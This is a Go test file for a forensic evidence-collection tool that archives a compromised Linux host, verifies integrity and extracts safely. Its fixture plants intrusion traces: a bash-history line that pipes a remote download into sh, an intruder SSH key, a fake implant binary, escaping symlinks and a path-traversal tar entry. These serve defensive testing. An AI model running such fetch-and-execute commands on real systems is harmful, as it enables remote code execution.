package collect

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"filippo.io/age"
	"github.com/klauspost/compress/zstd"

	"github.com/nowwhat/nowwhat/internal/base/fixture"
	"github.com/nowwhat/nowwhat/internal/base/hostfs"
)

// elf is the start of an x86_64 ELF executable: enough for check to call it a program.
var elf = "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 120)

// suspectRoot is a Debian root with what an intruder leaves and what a collection must handle.
func suspectRoot(t *testing.T) *fixture.Root {
	t.Helper()
	r := fixture.Debian(t)
	r.File("/var/log/auth.log", "Nov 26 10:00:00 web1 sshd[1]: Accepted password for root from 203.0.113.9 port 4000 ssh2\n", 0o640)
	r.File("/var/log/big.log", "OLDEST"+strings.Repeat("x", 2988)+"NEWEST", 0o640)
	r.File("/etc/ssh/ssh_host_ed25519_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n", 0o600)
	r.File("/etc/ssh/ssh_host_ed25519_key.pub", "ssh-ed25519 AAAA host\n", 0o644)
	r.File("/root/.bash_history", "curl -s http://203.0.113.9/x | sh\n", 0o600)
	r.File("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl intruder\n", 0o600)
	r.File("/tmp/.x/kworkerd", elf, 0o755)
	r.File("/outside-secret", "not to be followed\n", 0o600)
	r.Symlink("/outside-secret", "/etc/evil-link")
	r.Symlink("../../../../../../../../outside-secret", "/var/log/climb")
	if err := syscall.Mkfifo(r.Path("/var/log/pipe"), 0o600); err != nil {
		t.Fatal(err)
	}
	return r
}

func collect(t *testing.T, root string, recipients []age.Recipient, opt Options) ([]byte, *Result) {
	t.Helper()
	opt.Root = root
	if opt.Limits == (Limits{}) {
		opt.Limits = DefaultLimits(ProfileQuick)
	}
	var buf bytes.Buffer
	res, err := Collect(context.Background(), &buf, recipients, opt)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(buf.Bytes())
	if res.SHA256 != hex.EncodeToString(sum[:]) || res.Size != int64(buf.Len()) {
		t.Fatalf("result digest %s size %d, archive %x size %d", res.SHA256, res.Size, sum, buf.Len())
	}
	return buf.Bytes(), res
}

func byPath(m *Manifest) map[string]Item {
	out := map[string]Item{}
	for _, it := range m.Items {
		if it.Path != "" {
			out[it.Path] = it
		}
	}
	return out
}

// TestCollectFixtureRoot: a collection of a dead host's root holds what the issue lists, treats
// links, FIFOs, host keys and caps as it should, and verifies.
func TestCollectFixtureRoot(t *testing.T) {
	r := suspectRoot(t)
	data, res := collect(t, r.Dir, nil, Options{Limits: Limits{MaxFileSize: 1000, MaxTotal: 1 << 30}})
	rep, err := Verify(bytes.NewReader(data), nil)
	if err != nil || !rep.OK() {
		t.Fatalf("verify: %v %v", err, rep.Problems)
	}
	if rep.Encrypted || res.Manifest.Encrypted {
		t.Error("an archive without recipients says it is encrypted")
	}
	items := byPath(rep.Manifest)
	cases := []struct {
		path, how, errHas string
	}{
		{"/etc/passwd", HowCopied, ""},
		{"/etc/shadow", HowCopied, ""},
		{"/var/log/auth.log", HowCopied, ""},
		{"/root/.bash_history", HowCopied, ""},
		{"/root/.ssh/authorized_keys", HowCopied, ""},
		{"/etc/ssh/ssh_host_ed25519_key.pub", HowCopied, ""},
		{"/etc/ssh/ssh_host_ed25519_key", HowSkipped, "host key"},
		{"/var/log/big.log", HowTruncated, "per-file cap"},
		{"/var/log/pipe", HowSkipped, "never opened"},
		{"/etc/evil-link", HowLink, ""},
		{"/var/log/climb", HowLink, ""},
		{"/tmp/.x/kworkerd", HowCopied, ""},
	}
	for _, c := range cases {
		it, ok := items[c.path]
		if !ok {
			t.Errorf("%s: not in the manifest", c.path)
			continue
		}
		if it.How != c.how || !strings.Contains(it.Error+it.Note, c.errHas) {
			t.Errorf("%s: how %q error %q note %q, want %q with %q", c.path, it.How, it.Error, it.Note, c.how, c.errHas)
		}
		if c.how == HowSkipped && it.Error != "" {
			t.Errorf("%s: left out on purpose, yet counted as a failure: %q", c.path, it.Error)
		}
	}
	if it := items["/var/log/big.log"]; it.Size != 1000 || it.OriginalSize != 3000 || it.Offset != 2000 {
		t.Errorf("truncated log: size %d of %d from %d", it.Size, it.OriginalSize, it.Offset)
	}
	if it := items["/etc/evil-link"]; it.Link != "/outside-secret" || it.SHA256 != "" {
		t.Errorf("link item %+v", it)
	}
	if it := items["/tmp/.x/kworkerd"]; it.Step != "flagged" || !strings.Contains(it.Note, "implant") {
		t.Errorf("implant item: step %s note %q", it.Step, it.Note)
	}
	if it := items["/etc/passwd"]; it.Mode != "file 0644" || it.UID == nil || it.Mtime == "" || it.Ctime == "" || len(it.SHA256) != 64 {
		t.Errorf("metadata of /etc/passwd: %+v", it)
	}
	if _, ok := items["/outside-secret"]; ok {
		t.Error("the file a link points to was collected through the link")
	}
	if res.Manifest.Complete || res.Problems == 0 {
		t.Error("a collection with a truncated file and skipped items says it is complete")
	}
	// The generated items: snapshot, check's findings, bodyfile.
	gen := map[string]Item{}
	for _, it := range rep.Manifest.Items {
		if it.How == HowGenerated {
			gen[it.ArchivePath] = it
		}
	}
	for _, want := range []string{"snapshot/host.snap", "snapshot/check.json", "snapshot/check.txt", "snapshot/investigate.json",
		"snapshot/investigate.txt", "snapshot/timeline.csv", "timeline/bodyfile.txt"} {
		if _, ok := gen[want]; !ok {
			t.Errorf("no %s in the archive", want)
		}
	}
	// Not a live host: nothing from this machine's /proc.
	for _, it := range rep.Manifest.Items {
		if strings.HasPrefix(it.ArchivePath, "live/") {
			t.Fatalf("a dead host's archive holds live state: %s", it.ArchivePath)
		}
	}
	files := readTar(t, data)
	if got := string(files["files/var/log/big.log"]); !strings.HasSuffix(got, "NEWEST") || strings.Contains(got, "OLDEST") {
		t.Errorf("a truncated log keeps its newest end: %q...", got[:20])
	}
	body := string(files["timeline/bodyfile.txt"])
	for _, want := range []string{"|/etc/passwd|", "|r/rrw-r--r--|", "|/etc/evil-link -> /outside-secret|", "|l/lrwxrwxrwx|", "|/var/log/pipe|", "|p/prw-------|"} {
		if !strings.Contains(body, want) {
			t.Errorf("bodyfile lacks %q", want)
		}
	}
	if n := strings.Count(body, "\n"); n < 50 {
		t.Errorf("bodyfile has %d lines", n)
	}
	var inv struct {
		Entry    map[string]any   `json:"entry"`
		Timeline []map[string]any `json:"timeline"`
	}
	if err := json.Unmarshal(files["snapshot/investigate.json"], &inv); err != nil || inv.Entry == nil || len(inv.Timeline) == 0 {
		t.Errorf("investigate.json: %v, entry %v, %d timeline rows", err, inv.Entry, len(inv.Timeline))
	}
	if !strings.Contains(string(files["snapshot/timeline.csv"]), "203.0.113.9") {
		t.Error("the timeline lacks the login from auth.log")
	}
	var custody Custody
	if err := json.Unmarshal(files[CustodyName], &custody); err != nil || custody.ToolSHA256 == "" || custody.ManifestSHA256 == "" || custody.Live {
		t.Errorf("custody %+v %v", custody, err)
	}
	if !strings.Contains(string(files[LogName]), "not a live host") {
		t.Error("collection.log does not say why there is no live state")
	}
}

// readTar returns the regular files of an unencrypted archive.
func readTar(t *testing.T, data []byte) map[string][]byte {
	t.Helper()
	zr, err := zstd.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	tr := tar.NewReader(zr)
	out := map[string][]byte{}
	for {
		h, err := tr.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeReg {
			b, _ := io.ReadAll(tr)
			out[h.Name] = b
		}
	}
}

// TestFlippedBytes: one changed byte anywhere in an archive, plain or encrypted, makes it fail.
func TestFlippedBytes(t *testing.T) {
	r := fixture.Debian(t)
	id, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	for _, enc := range []bool{false, true} {
		var recs []age.Recipient
		var ids []age.Identity
		if enc {
			recs, ids = []age.Recipient{id.Recipient()}, []age.Identity{id}
		}
		data, _ := collect(t, r.Dir, recs, Options{})
		if rep, err := Verify(bytes.NewReader(data), ids); err != nil || !rep.OK() {
			t.Fatalf("encrypted %v: intact archive: %v %v", enc, err, rep.Problems)
		}
		for i := 0; i < 24; i++ {
			pos := (len(data) - 1) * i / 23
			bad := bytes.Clone(data)
			bad[pos] ^= 0x20
			rep, err := Verify(bytes.NewReader(bad), ids)
			if err == nil && rep.OK() {
				t.Errorf("encrypted %v: byte %d of %d flipped, and the archive still verifies", enc, pos, len(data))
			}
			if err == nil && len(rep.Problems) > 0 && rep.Problems[0] == "" {
				t.Errorf("a problem without a description")
			}
		}
	}
	// Without the identity, an encrypted archive says what is missing.
	data, _ := collect(t, r.Dir, []age.Recipient{id.Recipient()}, Options{})
	if _, err := Verify(bytes.NewReader(data), nil); !errors.Is(err, ErrEncrypted) {
		t.Errorf("encrypted archive without identity: %v", err)
	}
}

// TestTamperedItem: a changed item is named, with where it is.
func TestTamperedItem(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/etc/motd", "welcome to web1, all is well\n", 0o644)
	data, _ := collect(t, r.Dir, nil, Options{})
	files := readTar(t, data)
	// Rebuild the archive with one item's content changed and everything else as it was.
	var out bytes.Buffer
	zw, _ := zstd.NewWriter(&out)
	tw := tar.NewWriter(zw)
	zr, _ := zstd.NewReader(bytes.NewReader(data))
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		body := files[h.Name]
		if h.Name == "files/etc/motd" {
			body = []byte("welcome to web1, all is WELL\n")
		}
		tw.WriteHeader(h)
		if h.Typeflag == tar.TypeReg {
			tw.Write(body)
		}
	}
	tw.Close()
	zw.Close()
	rep, err := Verify(&out, nil)
	if err != nil {
		t.Fatal(err)
	}
	if rep.OK() || len(rep.Problems) != 1 || !strings.Contains(rep.Problems[0], "files/etc/motd (/etc/motd)") {
		t.Errorf("problems %q", rep.Problems)
	}
}

// failingWriter fails after n bytes, like a full disk.
type failingWriter struct{ n int }

func (f *failingWriter) Write(p []byte) (int, error) {
	if len(p) > f.n {
		k := f.n
		f.n = 0
		return k, syscall.ENOSPC
	}
	f.n -= len(p)
	return len(p), nil
}

func TestDiskFull(t *testing.T) {
	r := fixture.Debian(t)
	_, err := Collect(context.Background(), &failingWriter{n: 4096}, nil, Options{Root: r.Dir, Limits: DefaultLimits(ProfileQuick)})
	if err == nil || !strings.Contains(err.Error(), "writing the archive failed") || !errors.Is(err, syscall.ENOSPC) {
		t.Fatalf("disk full: %v", err)
	}
}

// TestShrinkingFile: a file shorter than its stat said is padded, flagged, and the archive stays whole.
func TestShrinkingFile(t *testing.T) {
	r := fixture.New(t)
	r.File("/f", "short", 0o644)
	fsys, err := hostfs.Open(r.Dir)
	if err != nil {
		t.Fatal(err)
	}
	defer fsys.Close()
	f, st, err := fsys.OpenStat("/f")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	st.Size = 100 // as if it had shrunk after the stat
	var buf bytes.Buffer
	w, err := NewWriter(&buf, nil, Limits{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	w.AddFile("test", "/f", HostArchivePath("/f"), f, st, "")
	res, err := w.Finish(&Manifest{}, &Custody{})
	if err != nil {
		t.Fatal(err)
	}
	it := res.Manifest.Items[0]
	if it.Size != 100 || !strings.Contains(it.Error, "shrank") || !strings.Contains(it.Error, "changed while it was read") {
		t.Errorf("item %+v", it)
	}
	if rep, err := Verify(&buf, nil); err != nil || !rep.OK() {
		t.Errorf("verify: %v %v", err, rep.Problems)
	}
}

// TestGrowingFile: a log that grows while it is read is a live log, noted; any other file that
// changes while it is read is an error.
func TestGrowingFile(t *testing.T) {
	for _, c := range []struct {
		path    string
		isError bool
	}{{"/var/log/syslog", false}, {"/etc/shadow", true}} {
		r := fixture.New(t)
		r.File(c.path, "0123456789", 0o644)
		fsys, err := hostfs.Open(r.Dir)
		if err != nil {
			t.Fatal(err)
		}
		f, st, err := fsys.OpenStat(c.path)
		if err != nil {
			t.Fatal(err)
		}
		st.Size = 4 // as if the last six bytes were appended after the stat
		var buf bytes.Buffer
		w, _ := NewWriter(&buf, nil, Limits{}, nil)
		w.AddFile("test", c.path, HostArchivePath(c.path), f, st, "")
		f.Close()
		fsys.Close()
		res, err := w.Finish(&Manifest{}, &Custody{})
		if err != nil {
			t.Fatal(err)
		}
		it := res.Manifest.Items[0]
		if (it.Error != "") != c.isError || it.Size != 4 || (!c.isError && !strings.Contains(it.Note, "being written")) {
			t.Errorf("%s: error %q note %q size %d", c.path, it.Error, it.Note, it.Size)
		}
	}
}

// TestAccessTimesKept: collecting reads files without updating their access times.
func TestAccessTimesKept(t *testing.T) {
	r := suspectRoot(t)
	old := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
	p := r.Path("/var/log/auth.log")
	// atime before mtime: under relatime any read would move it.
	if err := os.Chtimes(p, old, old.Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	collect(t, r.Dir, nil, Options{})
	var st syscall.Stat_t
	if err := syscall.Stat(p, &st); err != nil {
		t.Fatal(err)
	}
	if got := time.Unix(st.Atim.Unix()); !got.Equal(old) {
		t.Errorf("access time of auth.log moved to %v", got)
	}
}

func TestTotalCap(t *testing.T) {
	r := fixture.Debian(t)
	r.File("/var/log/a.log", strings.Repeat("a", 5000), 0o640)
	data, res := collect(t, r.Dir, nil, Options{Limits: Limits{MaxTotal: 4000}})
	if rep, err := Verify(bytes.NewReader(data), nil); err != nil || !rep.OK() {
		t.Fatalf("verify: %v %v", err, rep.Problems)
	}
	var total int64
	capped := 0
	for _, it := range res.Manifest.Items {
		if it.How != HowGenerated {
			total += it.Size
		}
		if strings.Contains(it.Error, "total cap") {
			capped++
		}
	}
	if total > 4000 || capped == 0 {
		t.Errorf("host bytes %d (cap 4000), %d items capped", total, capped)
	}
}

// TestExtract: an archive opens into a folder; names that would climb out are refused.
func TestExtract(t *testing.T) {
	r := suspectRoot(t)
	data, _ := collect(t, r.Dir, nil, Options{})
	dir := filepath.Join(t.TempDir(), "x")
	rep, err := Extract(bytes.NewReader(data), nil, dir, ExtractOptions{})
	if err != nil {
		t.Fatalf("extract: %v %v", err, rep.Problems)
	}
	got, err := os.ReadFile(filepath.Join(dir, "files/var/log/auth.log"))
	if err != nil || !strings.Contains(string(got), "Accepted password") {
		t.Errorf("auth.log: %q %v", got, err)
	}
	if fi, err := os.Stat(filepath.Join(dir, "snapshot/host.snap")); err != nil || fi.Size() == 0 {
		t.Errorf("snapshot: %v", err)
	}
	if fi, err := os.Lstat(filepath.Join(dir, "files/etc/evil-link")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("link: %v", err)
	}
	// A hand-made archive with a climbing name.
	var out bytes.Buffer
	zw, _ := zstd.NewWriter(&out)
	tw := tar.NewWriter(zw)
	tw.WriteHeader(&tar.Header{Name: "../../escape", Typeflag: tar.TypeReg, Size: 1, Mode: 0o600})
	tw.Write([]byte("x"))
	tw.Close()
	zw.Close()
	dir2 := filepath.Join(t.TempDir(), "y")
	if _, err := Extract(bytes.NewReader(out.Bytes()), nil, dir2, ExtractOptions{}); err == nil {
		t.Error("a climbing name was extracted")
	}
	if _, err := os.Stat(filepath.Join(dir2, "..", "..", "escape")); err == nil {
		t.Error("a file was written outside the folder")
	}
}

func TestModeString(t *testing.T) {
	cases := []struct {
		raw  uint32
		want string
	}{
		{syscall.S_IFREG | 0o644, "r/rrw-r--r--"},
		{syscall.S_IFREG | 0o4755, "r/rrwsr-xr-x"},
		{syscall.S_IFREG | 0o2644, "r/rrw-r-Sr--"},
		{syscall.S_IFDIR | 0o1777, "d/drwxrwxrwt"},
		{syscall.S_IFDIR | 0o1776, "d/drwxrwxrwT"},
		{syscall.S_IFLNK | 0o777, "l/lrwxrwxrwx"},
		{syscall.S_IFIFO | 0o600, "p/prw-------"},
		{syscall.S_IFCHR | 0o620, "c/crw--w----"},
	}
	for _, c := range cases {
		if got := ModeString(c.raw); got != c.want {
			t.Errorf("%o: %s, want %s", c.raw, got, c.want)
		}
	}
}

// FuzzVerify: any bytes given as an archive give an answer, never a panic or a hang.
func FuzzVerify(f *testing.F) {
	var buf bytes.Buffer
	w, _ := NewWriter(&buf, nil, Limits{}, nil)
	w.AddBytes("test", "a.txt", "", []byte("hello"))
	w.Finish(&Manifest{}, &Custody{})
	f.Add(buf.Bytes())
	f.Add([]byte("age-encryption.org/v1\n-> X25519 abc\n"))
	f.Add([]byte{0x28, 0xb5, 0x2f, 0xfd, 0, 0, 0})
	f.Add([]byte("not an archive"))
	id, _ := age.GenerateX25519Identity()
	f.Fuzz(func(t *testing.T, data []byte) {
		rep, err := Verify(bytes.NewReader(data), []age.Identity{id})
		if err == nil && rep == nil {
			t.Fatal("no report and no error")
		}
	})
}

// archiveWith builds a consistent archive (manifest and custody agree) holding one file of the
// given size (zeros unless data is given) at archivePath, and a link at linkPath to target.
func archiveWith(t *testing.T, archivePath string, size int64, linkPath, target string) []byte {
	t.Helper()
	dir := t.TempDir()
	p := filepath.Join(dir, "big")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(size); err != nil {
		t.Fatal(err)
	}
	f.Seek(0, io.SeekStart)
	st, err := hostfs.Fstat(f)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	w, err := NewWriter(&buf, nil, Limits{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	w.AddFile("logs", "/var/log/lastlog", archivePath, f, st, "")
	f.Close()
	if linkPath != "" {
		name := w.uniqueName(linkPath)
		w.mkdirs(name, w.started)
		w.tw.WriteHeader(&tar.Header{Typeflag: tar.TypeSymlink, Name: name, Linkname: target, Mode: 0o777, Format: tar.FormatPAX})
		w.add(Item{ArchivePath: name, Step: "snapshot", How: HowLink, Link: target})
	}
	if _, err := w.Finish(&Manifest{}, &Custody{}); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestExtractSparseAfterVerifying: a huge file of zeros (it compresses to nothing) is written
// as a hole, so it costs no disk, and only after the whole archive verified.
func TestExtractSparseAfterVerifying(t *testing.T) {
	const size = 64 << 20
	data := archiveWith(t, "files/var/log/lastlog", size, "", "")
	if len(data) > 1<<20 {
		t.Fatalf("%d MiB of zeros took %d bytes compressed", size>>20, len(data))
	}
	dir := filepath.Join(t.TempDir(), "x")
	if _, err := Extract(bytes.NewReader(data), nil, dir, ExtractOptions{}); err != nil {
		t.Fatal(err)
	}
	var st syscall.Stat_t
	if err := syscall.Stat(filepath.Join(dir, "files/var/log/lastlog"), &st); err != nil {
		t.Fatal(err)
	}
	if st.Size != size || st.Blocks*512 > 1<<20 {
		t.Errorf("extracted %d bytes using %d on disk, want %d bytes as a hole", st.Size, st.Blocks*512, size)
	}

	// The same archive with one byte of the manifest's digest changed: nothing is written.
	bad := tamperManifest(t, data, func(m *Manifest) { m.Items[0].SHA256 = strings.Repeat("0", 64) })
	dir2 := filepath.Join(t.TempDir(), "y")
	if _, err := Extract(bytes.NewReader(bad), nil, dir2, ExtractOptions{}); err == nil || !strings.Contains(err.Error(), "nothing was extracted") {
		t.Errorf("tampered archive: %v", err)
	}
	if _, err := os.Stat(dir2); err == nil {
		t.Error("a folder was made for an archive that does not verify")
	}
}

// tamperManifest rewrites an archive's manifest (and the custody digest, so only the item's
// record is wrong).
func tamperManifest(t *testing.T, data []byte, change func(*Manifest)) []byte {
	t.Helper()
	files := readTar(t, data)
	var m Manifest
	if err := json.Unmarshal(files[ManifestName], &m); err != nil {
		t.Fatal(err)
	}
	change(&m)
	mj, _ := json.MarshalIndent(&m, "", " ")
	var c Custody
	json.Unmarshal(files[CustodyName], &c)
	sum := sha256.Sum256(mj)
	c.ManifestSHA256 = hex.EncodeToString(sum[:])
	cj, _ := json.MarshalIndent(&c, "", " ")
	var out bytes.Buffer
	zw, _ := zstd.NewWriter(&out)
	tw := tar.NewWriter(zw)
	zr, _ := zstd.NewReader(bytes.NewReader(data))
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if err != nil {
			break
		}
		body, _ := io.ReadAll(tr)
		switch h.Name {
		case ManifestName:
			body = mj
		case CustodyName:
			body = cj
		}
		h.Size = int64(len(body))
		if h.Typeflag != tar.TypeReg {
			h.Size = 0
		}
		tw.WriteHeader(h)
		tw.Write(body)
	}
	tw.Close()
	zw.Close()
	return out.Bytes()
}

// flipAfter is an archive that changes between the check and the extraction.
type flipAfter struct {
	*bytes.Reader
	second []byte
	seeks  int
}

func (f *flipAfter) Seek(off int64, whence int) (int64, error) {
	f.seeks++
	if f.seeks == 1 {
		f.Reader = bytes.NewReader(f.second)
	}
	return f.Reader.Seek(off, whence)
}

// TestExtractRechecks: an archive swapped between the verification and the writing is caught
// while it is written, and the folder removed; a link entry is written as a link only.
func TestExtractRechecks(t *testing.T) {
	good := archiveWith(t, "files/etc/motd", 4096, "snapshot/host.snap", "/dev/zero")
	other := archiveWith(t, "files/etc/motd", 8192, "snapshot/host.snap", "/dev/zero")
	dir := filepath.Join(t.TempDir(), "x")
	_, err := Extract(&flipAfter{Reader: bytes.NewReader(good), second: other}, nil, dir, ExtractOptions{})
	if err == nil || !strings.Contains(err.Error(), "changed after it was verified") {
		t.Errorf("swapped archive: %v", err)
	}
	if _, err := os.Stat(dir); err == nil {
		t.Error("the folder of a failed extraction is left behind")
	}
	dir2 := filepath.Join(t.TempDir(), "y")
	if _, err := Extract(bytes.NewReader(good), nil, dir2, ExtractOptions{Only: []string{"snapshot/"}}); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Lstat(filepath.Join(dir2, "snapshot/host.snap")); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the link is not kept as a link: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(dir2, "files/etc/motd")); err == nil {
		t.Error("Only snapshot/ also wrote files/")
	}
}

// TestHostileNamesRoundTrip: names that are not UTF-8, hold newlines or escape sequences are
// kept byte for byte: in the tar, in the manifest (escaped for the eye, exact in base64), through
// verify, and back on disk from Extract.
func TestHostileNamesRoundTrip(t *testing.T) {
	r := fixture.Debian(t)
	names := []string{fixture.HostileNames.NotUTF8, fixture.HostileNames.Escape, fixture.HostileNames.Newline, fixture.HostileNames.Bidi}
	for i, n := range names {
		dir := r.Path("/etc/cron.d")
		if err := os.WriteFile(dir+"/"+n, []byte{byte('a' + i), '\n'}, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("target-"+n, dir+"/link-"+n); err != nil {
			t.Fatal(err)
		}
	}
	data, _ := collect(t, r.Dir, nil, Options{})
	rep, err := Verify(bytes.NewReader(data), nil)
	if err != nil || !rep.OK() {
		t.Fatalf("an archive with hostile names does not verify: %v %v", err, rep.Problems)
	}
	mj := readTar(t, data)[ManifestName]
	if !utf8.Valid(mj) {
		t.Error("the manifest is not valid UTF-8")
	}
	byP := byPath(rep.Manifest)
	for i, n := range names {
		it, ok := byP["/etc/cron.d/"+n]
		if !ok || it.ArchivePath != "files/etc/cron.d/"+n {
			t.Errorf("%q: not in the manifest byte for byte (%+v)", n, it)
		}
		if l, ok := byP["/etc/cron.d/link-"+n]; !ok || l.Link != "target-"+n {
			t.Errorf("link %q: %+v", n, l)
		}
		_ = i
	}
	dir := filepath.Join(t.TempDir(), "x")
	if _, err := Extract(bytes.NewReader(data), nil, dir, ExtractOptions{}); err != nil {
		t.Fatal(err)
	}
	for i, n := range names {
		got, err := os.ReadFile(dir + "/files/etc/cron.d/" + n)
		if err != nil || string(got) != string([]byte{byte('a' + i), '\n'}) {
			t.Errorf("%q extracted: %q %v", n, got, err)
		}
		if l, err := os.Readlink(dir + "/files/etc/cron.d/link-" + n); err != nil || l != "target-"+n {
			t.Errorf("link %q extracted: %q %v", n, l, err)
		}
	}
}
